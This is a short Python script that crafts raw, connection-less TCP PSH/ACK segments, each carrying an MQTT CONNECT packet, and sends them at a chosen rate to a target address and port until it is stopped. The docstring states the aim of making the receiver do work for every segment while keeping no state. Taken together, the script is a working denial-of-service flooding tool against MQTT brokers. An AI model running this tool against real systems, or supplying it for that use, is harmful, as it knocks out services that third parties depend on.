"""Sends TCP segments to an MQTT port at an even rate, heedless of answers: segments.py ADDRESS PORT PER-SECOND.

Each carries a CONNECT and belongs to no connection, so that the receiver has work with every one and nothing to keep.
Runs until it is ended.
"""

import socket
import struct
import sys
import time

CONNECT = bytes.fromhex("101c00044d51545404c2000000046861636b0004757365720006") + b"secret"
PSH_ACK = 0x18
BATCHES_PER_SECOND = 200


def checksum(data):
    """RFC 1071."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(source, target, port, number):
    header = struct.pack("!HHIIBBHHH", 20000 + number, port, number, 1, 5 << 4, PSH_ACK, 65535, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header) + len(CONNECT))
    digest = checksum(pseudo + header + CONNECT)
    return header[:16] + struct.pack("!H", digest) + header[18:] + CONNECT


def main():
    address, port, per_second = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as out:
        out.connect((address, 0))
        source = socket.inet_aton(out.getsockname()[0])
        segments = [segment(source, socket.inet_aton(address), port, n) for n in range(1000)]
        begin = time.monotonic()
        sent = 0
        while True:
            while sent < (time.monotonic() - begin) * per_second:
                out.send(segments[sent % len(segments)])
                sent += 1
            time.sleep(1 / BATCHES_PER_SECOND)


main()
